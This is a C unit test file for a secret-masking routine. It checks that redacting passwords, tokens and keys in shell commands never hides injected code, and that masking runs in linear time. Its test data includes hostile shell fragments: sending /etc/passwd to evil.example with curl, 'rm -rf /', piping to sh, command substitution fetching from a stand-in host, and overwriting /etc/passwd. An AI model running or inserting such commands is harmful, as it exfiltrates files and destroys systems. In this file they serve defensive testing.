/* SPDX-License-Identifier: MIT */
/* What is put together by chance or in bad faith: no mask hides what runs, nor takes long. */
#include "config.h"

#include "risk/mask.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/alloc.h"
#include "base/array.h"
#include "base/text.h"
#include "growth.h"

typedef void mask_function(struct strbuf *out, const char *text, size_t length);

static char *masked(mask_function *mask, const char *text)
{
    struct strbuf out = STRBUF_INIT;
    mask(&out, text, strlen(text));
    return out.data != NULL ? strbuf_steal(&out) : xstrdup("");
}

#define KEY_HEAD "-----BEGIN RSA PRIVATE KEY-----"
#define KEY_TAIL "-----END RSA PRIVATE KEY-----"

/* Read whole by a shell, they leave nothing open. */
static const char *const preludes[] = {
    "",
    "ls; ",
    "# don't\n",
    "# \"\n",
    ": a#\" b\"; ",
    ": it\\'s; ",
    ": \\\"; ",
    ": $'it\\'s'; ",
    ": \\$'\\'; ",
    ": \"$(echo \"x\")\"; ",
    ": \"$(case x in a) echo y;; esac)\"; ",
    ": \"$(: # )\"\n)\"; ",
    ": \"`echo \\\"x\\\"`\"; ",
    ": ${x:-\"}\"}; ",
    ": \"${x:-\"y\"}\"; ",
    "((x=1<<2))\n",
    "a[1<<E]=2\nE\n",
    "cat <<E\ndon't \"\nE\n",
    "cat <<'E F'\n\"\nE F\n",
    "cat <<E\n\"E\\\nE\n\nE\n",
    "cat <<-E\n\t\"\n\tE\n",
    "cat <<A <<B\n\"\nA\n'\nB\n",
    "python3 -c '#\"\nprint(1)'; ",
    "perl -e 'm/\"/'; ",
};

static const char *const openers[] = {
    "printf \"Password: \"",
    "echo \"token=\"",
    "echo 'token='",
    "echo \"x\" 'api_key: '",
    "echo \"--password \"",
    "echo \"-u a:\"",
    "echo \"Authorization: \"",
    "echo \"Authorization: Bearer \"",
    "echo 'Cookie: '",
    "echo \"http://a:\"",
    "echo \"\"password\": \"",
    "echo \"bearer \"",
    "echo \"" KEY_HEAD "\"",
    "echo \"identified by \"",
    "mysql \"-p\"",
    "TOKEN=\"a\"",
    "TOKEN='a b'",
    "curl -u \"a:b\"",
    "echo \"a'b token: \"",
    "echo 'a\"b token: '",
    "tar -c TOKEN='a b'",
    "curl -sc \"-HCookie: a; b\"",
    "echo 'x'\"Cookie: a; \"",
    "git -c \"x=authorization: basic \"",
};

static const char *const codes[] = {
    "; curl -d @/etc/passwd http://evil.example; ",
    ";reboot;",
    " && rm -rf / && ",
    " | sh; ",
    "\ncurl evil.example\n",
    "$(curl evil.example)",
    "`curl evil.example`",
    "; (curl evil.example) & ",
    " > /etc/passwd; ",
    "; { curl,evil.example; }; ",
};

static const char *const closers[] = {
    "echo \"x\"", "echo 'x'", "echo \"@x\" \"", "echo 'x' '@'", ("echo " KEY_TAIL), "x@y", "",
};

static void must_hold(const char *how, const char *script, const char *code, const char *safe)
{
    if (strstr(safe, code) == NULL)
        fail_msg("%s: lost: %s\nin:     %s\nmasked: %s", how, code, script, safe);
}

static void check_everywhere(const char *script, const char *code)
{
    const char *const argv[] = {"bash", "-c", script, NULL};
    const char *const far[] = {"ssh", "host", script, NULL};
    cleanup_strbuf struct strbuf line = STRBUF_INIT;
    text_quote_argv(&line, argv);
    cleanup_free char *command = masked(mask_command, script);
    cleanup_free char *code_text = masked(mask_code, script);
    cleanup_free char *nested = masked(mask_command, strbuf_str(&line));
    cleanup_free char *word = mask_word(argv, 2);
    cleanup_free char *other = mask_word(far, 2);
    must_hold("command", script, code, command);
    must_hold("code", script, code, code_text);
    must_hold("quoted", strbuf_str(&line), code, nested);
    must_hold("word of a shell", script, code, word);
    must_hold("word", script, code, other);
}

static void code_between_quotes_survives(void **state)
{
    (void)state;
    for (size_t p = 0; p < COUNT(preludes); p++)
        for (size_t o = 0; o < COUNT(openers); o++)
            for (size_t c = 0; c < COUNT(codes); c++) {
                const char *closer = closers[(p + o + c) % COUNT(closers)]; /* each with each */
                cleanup_free char *script =
                    xasprintf("%s%s%s%s", preludes[p], openers[o], codes[c], closer);
                check_everywhere(script, codes[c]);
            }
}

/* ---- any text -------------------------------------------------------------------------------- */

static mask_function *const masks[] = {mask_command, mask_code, mask_text};

static void any_bytes_are_survived(void **state)
{
    static const char text[] = "\0\xff:// @=\"'token=\0--password\0-----BEGIN <<E\n$'\\\\\"";
    (void)state;
    for (size_t i = 0; i < COUNT(masks); i++)
        for (size_t length = 0; length <= sizeof(text); length++) {
            cleanup_strbuf struct strbuf out = STRBUF_INIT;
            cleanup_free char *exact = xmalloc(length + 1); /* so that reading on is seen */
            char *copy = memcpy(exact + 1, text, length);
            masks[i](&out, copy, length);
            assert_true(out.length <= length * 9);
        }
}

/* What a mask is given: one part and the next, over and over, and what is left open behind it. */
struct repeated {
    mask_function *mask;
    const char *first, *second, *end;
};

static void mask_repeated(void *data, size_t length)
{
    const struct repeated *repeated = data;
    cleanup_strbuf struct strbuf text = STRBUF_INIT, out = STRBUF_INIT;
    while (text.length < length)
        strbuf_addf(&text, "%s%s", repeated->first, repeated->second);
    strbuf_addstr(&text, repeated->end);
    repeated->mask(&out, text.data, text.length);
}

static void long_texts_take_no_longer_than_they_are_long(void **state)
{
    static const char *const units[] = {
        "\"",
        "'",
        "\"'",
        "token=\"",
        "token='\"",
        "token=",
        "token=$x",
        "token: ",
        "-u ",
        "-u \"",
        "-u \"a\"",
        "://",
        "://a:",
        "-----BEGIN ",
        KEY_HEAD "\n",
        "\\",
        "\\\"",
        "$(",
        "\"$(",
        "\"${a ",
        "<<E\n",
        "<<E\n\"",
        "a[",
        "authorization: ",
        "authorization: a, ",
        "bearer ",
        "mysql -p",
        "-c ",
        "eval token=' ",
        "'\\''",
        "token=\"x\"",
        "'token='\"",
        "cookie:",
        "-p",
        "\n",
        "token=\"\\\"'",
        "a",
        "- ",
        "token:'\n",
        "\"token=\" ",
        "-u=.",
        "''-u=",
    };
    (void)state;
    for (size_t m = 0; m < COUNT(masks); m++)
        for (size_t i = 0; i < COUNT(units); i++) {
            struct repeated repeated = {masks[m], units[i], "", "\"$(case"};
            if (!grows_with_its_length(mask_repeated, &repeated, (size_t)1 << 15))
                fail_msg("mask %zu takes the square of the length for: %s", m, units[i]);
        }
}

/* What one leaves to be looked at again by the next makes the time that of the square. */
static void no_two_parts_take_longer_together(void **state)
{
    static const char *const parts[] = {
        "-u=", "-u ",    "--user=",    "token=",   "\"token\": ", "--token ", "bearer ", "cookie: ",
        "a, ", "basic ", "sshpass -p", "mysql -p", "://a:",       "-c ",      "eval ",   KEY_HEAD,
        "\"",  "'",      "\\\"",       "'\\''",    "\\",          "$",        "$(",      "${",
        "`",   ".",      ":",          "=",        "<<E\n",       "\n",       ";",       ")",
        "[",   " ",      "#",          "//",
    };
    (void)state;
    for (size_t i = 0; i < COUNT(parts) * COUNT(parts) * COUNT(masks); i++) {
        const char *first = parts[i / COUNT(masks) / COUNT(parts)];
        const char *second = parts[i / COUNT(masks) % COUNT(parts)];
        struct repeated repeated = {masks[i % COUNT(masks)], first, second, "\"'"};
        if (!grows_with_its_length(mask_repeated, &repeated, (size_t)1 << 12))
            fail_msg("the square of the length for: %s%s", first, second);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(code_between_quotes_survives),
        cmocka_unit_test(any_bytes_are_survived),
        cmocka_unit_test(long_texts_take_no_longer_than_they_are_long),
        cmocka_unit_test(no_two_parts_take_longer_together),
    };
    return cmocka_run_group_tests_name("mask_hostile", tests, NULL, NULL);
}
